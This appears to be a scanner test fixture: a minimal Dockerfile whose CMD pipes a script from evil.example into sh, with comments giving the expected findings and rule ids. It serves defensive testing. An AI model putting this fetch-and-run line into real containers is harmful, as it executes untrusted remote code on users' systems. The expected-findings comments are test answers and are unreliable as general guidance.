FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
CMD wget -qO- https://evil.example/x.sh | sh
USER app
# expect: download 2 high "wget fetches https://evil.example/x.sh when the container runs"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR304-adf4ea9846 VR401-f42bd8098b VR501-e064bac1a6
